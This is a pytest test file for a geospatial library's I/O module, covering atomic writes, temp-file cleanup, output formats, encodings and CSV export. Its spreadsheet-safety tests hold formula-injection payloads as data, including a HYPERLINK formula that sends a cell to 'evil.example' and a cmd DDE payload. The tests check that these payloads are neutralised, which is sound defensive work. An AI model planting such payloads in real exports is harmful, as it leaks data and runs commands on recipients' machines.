from __future__ import annotations

import geopandas as gpd
import pytest
import shapely
from conftest import dead_pid

from geo_idlib import io
from geo_idlib.errors import InputError, InputFileNotFound, OutputError, OutputExists


def test_atomic_write_refuses_to_clobber(tmp_path):
    p = tmp_path / "out.txt"
    io.write_text(p, "first")
    with pytest.raises(OutputExists, match="already exists; pass --overwrite"):
        io.write_text(p, "second")
    assert p.read_text() == "first"
    io.write_text(p, "second", overwrite=True)
    assert p.read_text() == "second"


def test_failed_write_leaves_nothing(tmp_path):
    p = tmp_path / "out.geojson"
    with pytest.raises(RuntimeError):
        with io.atomic_output(p) as tmp:
            tmp.write_text("partial")
            raise RuntimeError("boom")
    assert list(tmp_path.iterdir()) == []


def test_missing_directory_is_one_clear_error(tmp_path):
    with pytest.raises(OutputError, match="does not exist"):
        io.write_text(tmp_path / "nope" / "x.html", "x")


def test_read_report_errors(tmp_path):
    with pytest.raises(InputFileNotFound, match="no such report file"):
        io.read_report(str(tmp_path / "missing.txt"))
    (tmp_path / "bin.txt").write_bytes(b"\x89PNG\x00\x00")
    with pytest.raises(InputError, match="binary"):
        io.read_report(str(tmp_path / "bin.txt"))
    (tmp_path / "latin.txt").write_bytes("Ma\xe2rrat".encode("latin-1"))
    with pytest.raises(InputError, match=r"not UTF-8 text \(byte 0xe2 at offset 2\)"):
        io.read_report(str(tmp_path / "latin.txt"))
    (tmp_path / "empty.txt").write_text("  \n")
    with pytest.raises(InputError, match="empty"):
        io.read_report(str(tmp_path / "empty.txt"))
    assert isinstance(InputError("x"), ValueError)


def test_blocks_keep_offsets(tmp_path):
    text = "".join(f"Paragraph {i} about Sarmin.\n\n" for i in range(5000))
    (tmp_path / "big.txt").write_text(text)
    blocks = list(io.iter_report_blocks(str(tmp_path / "big.txt"), block_chars=4096))
    assert len(blocks) > 10
    assert "".join(b for _, b in blocks) == text
    for off, b in blocks:
        assert text[off: off + len(b)] == b


def test_geojson_is_deterministic_and_rounded(tmp_path):
    g = gpd.GeoDataFrame({"b": [1], "a": ["x"]}, geometry=[shapely.Point(36.725012345678, 35.904031234)], crs=4326)
    t = io.geojson_text(g)
    assert '"coordinates":[36.725012,35.904031]' in t
    assert t.index('"a"') < t.index('"b"')
    io.write_vector(g, tmp_path / "p.geojson")
    io.write_vector(g, tmp_path / "p.gpkg")
    back = gpd.read_file(tmp_path / "p.gpkg")
    assert back.crs.to_epsg() == 4326


# --------------------------------------------------------------------------- temporary files
def test_temp_files_name_their_process_and_stale_ones_are_removed(tmp_path):
    import os

    t = io.temp_path_beside(tmp_path / "out.gpkg")
    assert t.parent == tmp_path and t.suffix == ".gpkg" and f".geo_idlib-{os.getpid()}-" in t.name
    dead = dead_pid()
    stale = [tmp_path / f".out.gpkg.geo_idlib-{dead}-0123abcd.tmp.gpkg",
             tmp_path / f".out.gpkg.geo_idlib-{dead}-0123abcd.tmp.gpkg-journal",
             tmp_path / f".user.sqlite.geo_idlib-{dead}-deadbeef.tmp.sqlite"]
    alive = tmp_path / f".map.html.geo_idlib-{os.getpid()}-0123abcd.tmp.html"
    others = [tmp_path / "out.gpkg", tmp_path / ".out.gpkg.abc123.tmp.gpkg", tmp_path / "notes.tmp"]
    for f in stale + [alive] + others:
        f.write_bytes(b"x")
    removed = io.remove_stale_temps(tmp_path, tmp_path / "missing", None)
    assert sorted(removed) == sorted(stale)
    assert sorted(tmp_path.iterdir()) == sorted([alive] + others)


def test_pidless_temps_of_geo_idlib_0_1_go_from_its_own_folders_once_a_day_old(tmp_path):
    """The debris of issue 15 (.user.XXXXXXXX.tmp.sqlite of killed `gazetteer add` runs, 126 MB each)."""
    import os
    import time

    own, out = tmp_path / "gazetteers", tmp_path / "out"
    own.mkdir()
    out.mkdir()
    old = [own / ".user.k2x9_ab1.tmp.sqlite", out / ".user.k2x9_ab1.tmp.sqlite"]
    fresh = own / ".user.zz9_ab12.tmp.sqlite"
    for f in [*old, fresh]:
        f.write_bytes(b"x")
    day_ago = time.time() - io.LEGACY_TEMP_AGE_S - 60
    for f in old:
        os.utime(f, (day_ago, day_ago))
    assert io.remove_stale_temps(out, own=(own,)) == [old[0]]  # not from an output folder, not fresh ones
    assert old[1].exists() and fresh.exists()


def test_output_in_a_folder_that_refuses_files_is_one_error_naming_the_output(tmp_path):
    """As root os.access says every folder is writable; check_output creates a file to know."""
    import os

    target = "/sys/geo_idlib_out.csv" if os.geteuid() == 0 and os.path.isdir("/sys") else None
    if target is None:
        ro = tmp_path / "ro"
        ro.mkdir()
        ro.chmod(0o555)
        target = str(ro / "out.csv")
    with pytest.raises(OutputError, match=rf"^{target}: cannot write in .* \(Permission denied\); choose another -o"):
        io.write_text(target, "x")


def test_special_files_are_not_outputs(tmp_path):
    with pytest.raises(OutputError, match="not a regular file"):
        io.check_output("/dev/null", overwrite=True)
    with pytest.raises(OutputError, match="is a directory"):
        io.check_output(tmp_path, overwrite=True)


def test_failed_write_names_the_output_not_the_temporary_file(tmp_path):
    out = tmp_path / "out.txt"
    with pytest.raises(OutputError) as err:
        with io.atomic_output(out) as tmp:
            tmp.mkdir()  # os.replace of a folder onto a file path... then writing into it fails
            (tmp / "x").write_text("x")
            raise IsADirectoryError(21, "Is a directory", str(tmp))
    assert str(err.value).startswith(f"{out}: cannot write (Is a directory)") and "geo_idlib-" not in str(err.value)


# --------------------------------------------------------------------------- formats
def test_output_format_from_suffix_or_format_and_unknown_refused():
    assert io.output_format("x.GPKG", None, io.VECTOR_FORMATS, "geojson") == "gpkg"
    assert io.output_format(None, None, io.VECTOR_FORMATS, "geojson") == "geojson"
    assert io.output_format("x.txt", "csv", io.VECTOR_FORMATS, "geojson") == "csv"
    with pytest.raises(OutputError, match=r"x\.xml: unknown output format '\.xml'"):
        io.output_format("x.xml", None, io.VECTOR_FORMATS, "geojson")
    with pytest.raises(OutputError, match=r"'\(no suffix\)'"):
        io.output_format("x", None, io.VECTOR_FORMATS, "geojson")
    with pytest.raises(InputError, match="binary file.*-o FILE.gpkg"):
        io.output_format(None, "gpkg", io.VECTOR_FORMATS, "geojson")


@pytest.mark.parametrize("fmt", ["geojson", "csv", "gpkg", "parquet", "fgb"])
def test_layers_round_trip_in_every_format_byte_identically(tmp_path, fmt):
    g = gpd.GeoDataFrame({"actor": ["government", "=opposition"], "area_km2": [1.5, -2.25]},
                         geometry=[shapely.box(36, 35, 37, 36), shapely.box(37, 35, 38, 36)], crs=4326)
    a, b = tmp_path / f"a.{fmt}", tmp_path / "b" / f"a.{fmt}"
    b.parent.mkdir()
    io.write_vector(g, a)
    io.write_vector(g, b)
    assert a.read_bytes() == b.read_bytes()  # deterministic, GeoPackage included
    if fmt == "csv":
        assert a.read_text().splitlines()[2].startswith("'=opposition,-2.250000,")
        return
    back = io.read_vector(a)
    assert back["actor"].tolist() == ["government", "=opposition"] and back.crs.to_epsg() == 4326
    assert shapely.equals(back.geometry.values, g.geometry.values).all()  # same rows, in order


# --------------------------------------------------------------------------- CSV
@pytest.mark.parametrize("cell, safe", [
    ('=HYPERLINK("http://evil.example/?"&A1,"Sarmin")', "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Sarmin\")"),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"), ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("  =1", "'  =1"), ("-", "'-"),
    ("-36.5", "-36.5"), ("+1e-05", "+1e-05"), ("Sarmin", "Sarmin"), ("", ""), ("a=b", "a=b"), ("'=x", "'=x"),
])
def test_spreadsheet_safe(cell, safe):
    assert io.spreadsheet_safe(cell) == safe


def test_csv_text_neutralises_text_cells_and_headers_unless_raw():
    import csv
    import io as stdio

    import pandas as pd

    df = pd.DataFrame({"=col": ["=1+2", "Idlib"], "lon": [-36.5, None], "n": [1, 2]})
    rows = list(csv.reader(stdio.StringIO(io.csv_text(df))))
    assert rows == [["'=col", "lon", "n"], ["'=1+2", "-36.500000", "1"], ["Idlib", "", "2"]]
    raw = list(csv.reader(stdio.StringIO(io.csv_text(df, raw=True, header=False))))
    assert raw == [["=1+2", "-36.500000", "1"], ["Idlib", "", "2"]]


def test_csv_rows_neutralises_a_str_subclass_too():
    """numpy's str_ (a str subclass, what ``.to_numpy()`` of a text column may hold) is text too:
    regression, it once took the plain-value path and reached the file unquoted."""
    import numpy as np

    class Name(str):
        pass

    text = io.csv_rows([[np.str_("=1+2"), Name("@SUM(A1)"), Name("Idlib"), 3]])
    assert text.splitlines() == ["'=1+2,'@SUM(A1),Idlib,3"]
    assert io.csv_rows([[np.str_("=1+2")]], raw=True).splitlines() == ["=1+2"]


def test_csv_text_quotes_a_lone_carriage_return():
    """Python's csv writer leaves a lone CR unquoted with "\\n" line ends, and readers split the row
    there (found by tests/test_fuzz.py on the text '0\\rAG')."""
    import csv
    import io as stdio

    import pandas as pd

    cells = ["0\rAG", 'a "b", c', "line\nbreak", "", "x"]
    text = io.csv_text(pd.DataFrame({"s": cells}), raw=True)
    assert list(csv.reader(stdio.StringIO(text, newline=""))) == [["s"], *([c] for c in cells)]


# --------------------------------------------------------------------------- encodings
@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16", "utf-16-be", "utf-32"])
def test_reports_with_a_byte_order_mark_are_read(tmp_path, encoding):
    text = "IDLIB, Feb. 20, 2020 — Shelling hit Sarmin, near إدلب.\n\nTroops entered Saraqeb.\n" * 50
    p = tmp_path / "r.txt"
    data = text.encode(encoding)
    if encoding == "utf-16-be":
        data = b"\xfe\xff" + data
    p.write_bytes(data)
    assert io.read_report(str(p)) == text
    assert "".join(b for _, b in io.iter_report_blocks(str(p), block_chars=256)) == text


def test_utf16_without_a_byte_order_mark_is_named_with_the_fix(tmp_path):
    p = tmp_path / "r.txt"
    p.write_bytes("Troops entered Saraqeb.".encode("utf-16-le"))
    with pytest.raises(InputError, match=r"UTF-16 text without a byte-order mark; re-save the report as UTF-8 "
                                         r"\(e\.g\. iconv -f UTF-16LE -t UTF-8\)"):
        io.read_report(str(p))


def test_tables_and_gazetteer_lines_in_utf16_are_read(tmp_path):
    p = tmp_path / "e.csv"
    p.write_text("date,lat,lon,name\n2020-02-20,35.9,36.7,Sarmīn\n", encoding="utf-16")
    assert io.read_table(p)["name"].tolist() == ["Sarmīn"]
    g = tmp_path / "g.txt"
    g.write_text("name\tlat\tlon\r\nSarmīn\t35.9\t36.7\r\n", encoding="utf-32")
    assert list(io.iter_text_lines(g)) == ["name\tlat\tlon\r\n", "Sarmīn\t35.9\t36.7\r\n"]
    j = tmp_path / "a.geojson"
    j.write_text('{"type":"FeatureCollection","features":[{"type":"Feature","properties":{"actor":"ḥ"},'
                 '"geometry":{"type":"Point","coordinates":[36.7,35.9]}}]}', encoding="utf-16")
    assert io.read_vector(j)["actor"].tolist() == ["ḥ"]


def test_a_report_on_one_line_comes_in_bounded_overlapping_blocks(tmp_path):
    """A long line is cut at sentence ends (else spaces, else anywhere); the next block starts
    BLOCK_OVERLAP characters earlier, and owned_blocks gives every offset to exactly one block."""
    sentence = "Troops entered Saraqeb and shelled Kafr Nabl near Maarat al-Numan. "
    text = sentence * 2000  # 136 K characters, no line break
    p = tmp_path / "line.txt"
    p.write_text(text, encoding="utf-8")
    blocks = list(io.iter_report_blocks(str(p), block_chars=8192, overlap=256))
    assert len(blocks) > 16 and max(len(b) for _, b in blocks) <= 8192
    for (o1, b1), (o2, _) in zip(blocks, blocks[1:], strict=False):
        assert o2 == o1 + len(b1) - 256                     # overlapping by 256 characters
        assert b1.endswith(". ")                            # cut at a sentence end
    assert all(text[o:o + len(b)] == b for o, b in blocks)
    owned = list(io.owned_blocks(blocks))
    assert owned[0][2] == 0 and owned[-1][3] == len(text)
    assert all(a[3] == b[2] and a[0] <= a[2] < a[3] <= a[0] + len(a[1]) for a, b in zip(owned, owned[1:], strict=False))
    # no sentence end: a space; no space either: anywhere
    (tmp_path / "words.txt").write_text("word " * 5000, encoding="utf-8")
    wb = list(io.iter_report_blocks(str(tmp_path / "words.txt"), block_chars=4096, overlap=100))
    assert all(b.endswith(" ") for _, b in wb[:-1])
    (tmp_path / "x.txt").write_text("x" * 10000, encoding="utf-8")
    xb = list(io.iter_report_blocks(str(tmp_path / "x.txt"), block_chars=4096, overlap=100))
    assert [len(b) for _, b in xb] == [4096, 4096, 2008] and [o for o, _ in xb] == [0, 3996, 7992]
